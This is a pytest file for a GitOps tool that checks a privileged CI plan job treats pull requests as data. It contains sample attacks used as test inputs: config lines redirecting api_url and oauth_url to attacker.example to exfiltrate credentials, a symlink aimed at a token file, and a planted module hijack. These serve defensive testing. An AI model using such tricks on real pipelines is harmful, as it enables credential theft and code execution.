"""A pull request is data: the privileged plan job imports its employer files and
configuration into the base branch's checkout, refuses changed connection settings,
never follows a symlink, and records which run made the plan; apply checks that."""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result

from mijnloket_gitops.config import load_settings
from mijnloket_gitops.gitops import provenance
from mijnloket_gitops.gitops.pr_data import PullRequestRefused, import_pull_request

LOKET = """version: 1
provider:
  type: loket
  environment: acceptance
"""


def _repo(root: Path, config: str, employers: dict[str, str]) -> Path:
    root.mkdir()
    (root / "mijnloket-gitops.yaml").write_text(config)
    (root / "employers").mkdir()
    for name, text in employers.items():
        (root / "employers" / name).write_text(text)
    return root


@pytest.fixture
def base(tmp_path: Path, valid_employer: str) -> Path:
    return _repo(tmp_path / "base", LOKET, {"a.yaml": valid_employer, "old.yaml": valid_employer})


def test_the_pull_requests_files_replace_the_base_branchs(
    base: Path, tmp_path: Path, valid_employer: str
) -> None:
    config = LOKET + "safety:\n  max_employer_share: 1.0\n"
    pull = _repo(tmp_path / "pull", config, {"a.yaml": valid_employer, "b.yaml": valid_employer})
    imported = import_pull_request(base, pull)
    assert imported.files == ("employers/a.yaml", "employers/b.yaml", "mijnloket-gitops.yaml")
    assert sorted(p.name for p in (base / "employers").iterdir()) == ["a.yaml", "b.yaml"]
    assert load_settings(base).config.safety.max_employer_share == 1.0


@pytest.mark.parametrize(
    ("change", "named"),
    [
        ("  api_url: https://attacker.example/v2\n", "provider.api_url"),
        ("  oauth_url: https://attacker.example\n", "provider.oauth_url"),
        ("  token_store: mijnloket-plan/token.json\n", "provider.token_store"),
        ("  client_secret_env: GITHUB_TOKEN\n", "provider.client_secret_env"),
    ],
)
def test_a_changed_connection_setting_is_refused_and_nothing_is_imported(
    base: Path, tmp_path: Path, valid_employer: str, change: str, named: str
) -> None:
    """The api_url exfiltration: a one-line change must not send the credentials to
    a host of the author's choosing."""
    pull = _repo(tmp_path / "pull", LOKET + change, {"evil.yaml": valid_employer})
    with pytest.raises(PullRequestRefused, match=named) as error:
        import_pull_request(base, pull)
    assert error.value.exit_code == 3
    assert "no Loket.nl credentials were used" in str(error.value)
    assert (base / "mijnloket-gitops.yaml").read_text() == LOKET
    assert not (base / "employers" / "evil.yaml").exists()


def test_switching_the_provider_or_the_folder_is_refused(base: Path, tmp_path: Path) -> None:
    pull = _repo(tmp_path / "pull", "version: 1\nemployers_dir: other\n", {})
    with pytest.raises(PullRequestRefused, match=r"employers_dir.*provider\.environment"):
        import_pull_request(base, pull)


def test_symlinks_are_never_followed(base: Path, tmp_path: Path, valid_employer: str) -> None:
    secret = tmp_path / "loket-token.json"
    secret.write_text('{"refresh_token": "rt-secret"}')
    pull = _repo(tmp_path / "pull", LOKET, {"a.yaml": valid_employer})
    (pull / "employers" / "leak.yaml").symlink_to(secret)
    (pull / "employers" / "dir").symlink_to(tmp_path)
    imported = import_pull_request(base, pull)
    assert imported.skipped == ("employers/dir", "employers/leak.yaml")
    assert sorted(p.name for p in (base / "employers").iterdir()) == ["a.yaml"]
    linked = _repo(tmp_path / "linked", "", {})
    (linked / "mijnloket-gitops.yaml").unlink()
    (linked / "mijnloket-gitops.yaml").symlink_to(base / "mijnloket-gitops.yaml")
    with pytest.raises(PullRequestRefused, match="symbolic link"):
        import_pull_request(base, linked)


def test_cli_import_refuses_with_exit_3(
    base: Path, tmp_path: Path, run_cli: Callable[..., Result]
) -> None:
    pull = _repo(tmp_path / "pull", LOKET + "  api_url: https://attacker.example\n", {})
    result = run_cli("github", "import-pull-request", "--from", pull, "--repo", base)
    assert result.exit_code == 3
    assert "changes provider.api_url in mijnloket-gitops.yaml" in result.output


def test_provenance_is_recorded_and_checked(
    tmp_path: Path, run_cli: Callable[..., Result], monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "plan"
    monkeypatch.setenv("GITHUB_RUN_ID", "502")
    monkeypatch.setenv("GITHUB_SHA", "b4se")
    recorded = run_cli(
        "github", "record-run", "--dir", folder, "--pull-request", "11", "--head-sha", "h3ad"
    )
    assert recorded.exit_code == 0, recorded.output
    assert provenance.Provenance.read(folder) == provenance.Provenance(11, "h3ad", 502, "b4se")

    def check(pr: str, sha: str, run: str) -> Result:
        args = ("--pull-request", pr, "--head-sha", sha, "--run-id", run)
        return run_cli("github", "check-plan", "--dir", folder, *args)

    assert check("11", "h3ad", "502").exit_code == 0
    wrong = check("12", "h3ad", "502")
    assert wrong.exit_code == 3 and "pull request 11 (expected 12)" in wrong.output
    assert check("11", "other", "502").exit_code == 3
    assert check("11", "h3ad", "9").exit_code == 3
    os.remove(folder / "run.json")
    assert "missing or unreadable run.json" in check("11", "h3ad", "502").output


def test_the_privileged_plan_job_end_to_end_on_the_sandbox(
    tmp_path: Path, run_cli: Callable[..., Result], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The steps of mijnloket-pr-plan.yml and the apply job, in order: import the pull
    request as data, plan into $RUNNER_TEMP, record the run; apply checks and applies."""
    examples = Path(__file__).resolve().parent.parent / "employers"
    base, pull, temp = tmp_path / "base", tmp_path / "pull-request", tmp_path / "runner-temp"
    shutil.copytree(examples, base / "employers")
    shutil.copytree(examples, pull / "employers")
    (pull / "employers" / "bakkerij-de-vries.yaml").unlink()  # the pull request's change
    hijack = pull / "mijnloket_gitops"
    hijack.mkdir()
    (hijack / "__main__.py").write_text(f"open({str(tmp_path / 'HIJACKED')!r}, 'w')\n")
    planted = pull / "mijnloket-plan"
    planted.mkdir()
    (planted / "plan.md").write_text("planted\n")
    monkeypatch.setenv("RUNNER_TEMP", str(temp))
    monkeypatch.setenv("GITHUB_RUN_ID", "502")
    monkeypatch.setenv("GITHUB_SHA", "b4se")

    imported = run_cli("github", "import-pull-request", "--from", pull, "--repo", base)
    assert imported.exit_code == 0, imported.output
    assert not (base / "employers" / "bakkerij-de-vries.yaml").exists()
    assert not (base / "mijnloket_gitops").exists() and not (base / "mijnloket-plan").exists()
    assert run_cli("github", "prepare-provider", "--repo", base).exit_code == 0

    plan_file = temp / "mijnloket-plan" / "plan.json"
    monkeypatch.setenv("INPUT_COMMAND", "plan")
    monkeypatch.setenv("INPUT_WORKING_DIRECTORY", str(base))
    monkeypatch.setenv("INPUT_PLAN_FILE", str(plan_file))
    planned = run_cli("github", "run-action")
    assert planned.exit_code == 0, planned.output
    assert plan_file.is_file() and (temp / "mijnloket-plan" / "plan.md").is_file()
    args = ("--dir", temp / "mijnloket-plan", "--pull-request", "11", "--head-sha", "h3ad")
    assert run_cli("github", "record-run", *args).exit_code == 0
    assert run_cli("github", "check-plan", *args, "--run-id", "502").exit_code == 0

    monkeypatch.setenv("INPUT_COMMAND", "apply")
    applied = run_cli("github", "run-action")
    assert applied.exit_code == 0, applied.output
    assert not (tmp_path / "HIJACKED").exists()
